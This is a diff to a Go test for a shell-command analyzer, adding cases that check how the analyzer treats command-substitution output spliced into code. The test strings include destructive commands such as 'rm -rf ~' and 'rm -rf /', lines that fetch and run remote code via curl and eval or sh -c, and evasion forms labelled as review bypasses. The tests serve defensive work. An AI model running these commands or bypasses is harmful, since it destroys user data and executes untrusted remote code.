@@ -73,11 +73,30 @@ func TestCommandOutputRunAsCode(t *testing.T) {
 		{line: `$(pyenv which python) -m pip list`, want: []string{"python -m pip list"}},
 		{line: `BIN="$(mktemp -d)/tool"; eval "$BIN --help"`, want: []string{"tool --help"}},
 		// A program the line names under a directory it does not.
-		{line: `$(echo /bin)/rm -rf ~`, want: []string{"rm -rf ~"}},
-		{line: `$(echo /bin)/bash -c "rm -rf ~"`, want: []string{"rm -rf ~"}},
+		{line: `"$(echo /bin)"/rm -rf ~`, want: []string{"rm -rf ~"}},
+		{line: `"$(echo /bin)/bash" -c "rm -rf ~"`, want: []string{"rm -rf ~"}},
+		// Unquoted, the output splits into words: any program.
+		{line: `$(echo /bin)/rm -rf ~`, err: cannot},
+		{line: `$(curl -s https://x.y/i)/x`, err: cannot},
+		{line: `D=$(curl -s https://x.y/i); $D/x`, err: cannot},
 		{line: `"$D"/rm -rf ~`, want: []string{"rm -rf ~"}},
 		{line: `$HOME/../../bin/rm -rf ~`, want: []string{"rm -rf ~"}},
-		{line: `X=$(echo /bin)/rm; $X -rf ~`, want: []string{"rm -rf ~"}},
+		{line: `X=$(echo /bin)/rm; $X -rf ~`, err: cannot},
+		{line: `X=$(echo /bin)/rm; "$X" -rf ~`, want: []string{"rm -rf ~"}},
+		// The second review's bypasses.
+		{line: `x=$(which ls); $(curl -s https://x.y/$x)`, err: cannot},
+		{line: `x=$(which ls); ${x:+$(curl -s https://x.y/i)} a`, err: cannot},
+		{line: `$(which zzz) rm -rf /`, want: []string{"rm -rf /"}},
+		{line: `eval "${u:-$(curl -s https://x.y/i)}"`, err: cannot},
+		{line: `sh -c "${u:-$(curl -s https://x.y/i)}"`, err: cannot},
+		{line: `eval "$(paste completion)"`, err: cannot},
+		{line: `eval "$(dbus-launch --sh-syntax --exit-with-session curl --url x)"`, err: cannot},
+		{line: `eval "$(ssh-agent -s bash)"`, err: cannot},
+		{line: `sh -c "echo $(date +x%-nrm)"`, err: cannot},
+		{line: `sh -c "echo $(git rev-parse --abbrev-ref HEAD)"`, err: cannot},
+		{line: `sh -c "echo $(pgrep -a node)"`, err: cannot},
+		{line: `sh -c "echo $(docker ps)"`, err: cannot},
+		{line: `sh -c "docker rm -f $(docker ps -aq)"`, want: []string{"docker ps -aq"}},
 		// The review's bypasses: output spliced into code is the
 		// program's own value only for a short list of programs; a
 		// completion or setup form takes no operand a command could be.
